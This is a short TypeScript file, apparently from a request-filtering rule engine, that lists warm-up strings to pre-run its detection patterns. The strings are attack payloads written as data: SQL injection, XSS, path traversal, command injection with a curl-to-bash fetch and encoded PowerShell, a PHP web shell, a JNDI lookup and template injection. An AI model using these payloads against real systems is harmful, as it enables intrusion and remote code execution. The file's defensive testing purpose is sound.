// Texts of the kinds that rule sets look for, so that their patterns run once before a request does.

export const warmUpTexts: readonly string[] = [
  "The quick brown fox, and 12 others: it's fine (really) - see https://example.com/a?b=c&d=e#f",
  "x' or '1'='1' union select a, b from c where d like '%e' and sleep(5)-- ",
  "<script src=x>alert(1)</script><img src=x onerror=alert(1)><a href=javascript:alert(1)>",
  "../../../etc/passwd ..\\..\\windows\\win.ini php://input file:///etc/hosts http://127.0.0.1/",
  "; cat /etc/passwd | sh -c `id` $(whoami) && curl http://example.com/x | bash & powershell -enc AAAA",
  "<?php system($_GET['c']); ?> O:8:\"stdClass\":0:{} ${jndi:ldap://example.com/a} #{7*7} {{7*7}} __proto__",
];
